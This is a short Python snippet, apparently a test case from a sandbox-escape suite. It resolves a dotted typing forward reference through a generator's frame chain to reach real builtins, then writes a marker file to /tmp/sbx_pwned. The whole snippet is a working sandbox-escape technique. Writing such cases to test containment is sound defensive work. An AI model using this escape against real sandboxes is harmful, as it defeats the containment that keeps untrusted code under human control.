# ATTEMPT: a dotted forward reference walks attributes without the guard: a generator's frame, its callers, the server's globals, then the real open. ESCAPE IF: any file appears in the drop directory. [check=file]
import typing
g = (x for x in [1])
ref = typing.get_args(typing.Optional["g.gi_frame.f_back.f_globals"])[0]
top = ref._evaluate({"g": g}, None, frozenset())
top["__builtins__"]["open"]("/tmp/sbx_pwned/fwdref", "w").write("x")
